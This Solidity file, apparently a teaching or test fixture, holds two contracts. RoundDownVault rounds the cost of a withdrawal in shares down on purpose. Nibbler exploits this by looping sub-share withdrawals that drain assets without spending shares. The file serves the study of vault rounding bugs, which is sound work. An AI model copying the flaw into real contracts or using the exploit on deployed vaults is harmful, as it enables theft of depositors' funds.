// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20} from "./Tokens.sol";
import {NaiveVault, TokenVault} from "./ShareInflation.sol";

/// Rounds the shares that a withdrawal costs down, in favour of who withdraws: less
/// than a share is worth costs nothing, as often as one likes.
contract RoundDownVault is NaiveVault {
    constructor(IERC20 asset_) NaiveVault(asset_) {}

    function previewWithdraw(uint256 assets) public view override returns (uint256) {
        return assets * totalSupply / totalAssets();
    }
}

/// Withdraws again and again, each time a little less than one share is worth then.
contract Nibbler {
    function run(TokenVault vault, IERC20 asset, uint256 shares, uint256 times) external {
        require(vault.transferFrom(msg.sender, address(this), shares), "shares");
        for (uint256 i = 0; i < times; i++) {
            vault.withdraw(vault.convertToAssets(1) - 1, address(this), address(this));
        }
        vault.transfer(msg.sender, vault.balanceOf(address(this)));
        asset.transfer(msg.sender, asset.balanceOf(address(this)));
    }
}
